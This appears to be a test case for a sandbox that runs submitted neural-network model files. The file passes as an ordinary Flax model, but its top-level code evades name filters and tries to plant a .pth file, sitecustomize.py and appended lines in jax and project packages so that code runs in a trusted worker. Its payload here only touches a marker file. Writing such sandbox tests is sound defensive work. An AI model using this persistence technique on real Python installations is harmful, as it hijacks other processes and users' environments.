# expect: ok
# kind: file-access
# attack: find site-packages from sys.prefix / sys.path and plant evonas-pwned.pth, sitecustomize.py, a line appended to jax/__init__.py and a module in the evojax_nas package (to run in the trusted worker); Landlock makes the install read-only
import typing

import flax.linen as nn
import jax

AG = typing.operator.attrgetter
B = AG("__builtins__")(typing.cast)
SYS = AG("__globals__")(typing.cast)["sys"]
OS = AG("modules")(SYS)["os"]
SITES = [p for p in AG("path")(SYS) if p.endswith("site-packages")]
SITES.append(AG("prefix")(SYS) + "/lib/python3.11/site-packages")
PAYLOAD = "import os; os.system('touch /var/tmp/evonas-pwned-sitepkg-ran')\n"
RESULTS = []
TARGETS = [(s + "/evonas-pwned.pth", "w") for s in SITES] + [(s + "/sitecustomize.py", "w") for s in SITES]
TARGETS += [(OS.path.dirname(AG("__file__")(jax)) + "/__init__.py", "a"),
            ("/work/main/evojax_nas/evonas_pwned.py", "w"), ("/work/main/evojax_nas/train/__init__.py", "a")]
for path, mode in TARGETS:
    try:
        with B["open"](path, mode) as handle:
            handle.write(PAYLOAD)
        RESULTS.append("WROTE " + path)
    except Exception as err:
        RESULTS.append(repr(err))
for attempt in (lambda: OS.utime(SITES[0]), lambda: OS.mkdir(SITES[0] + "/evonas_pwned_pkg")):
    try:
        RESULTS.append(repr(attempt()))
    except Exception as err:
        RESULTS.append(repr(err))


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(nn.relu(nn.Dense(17)(x)))
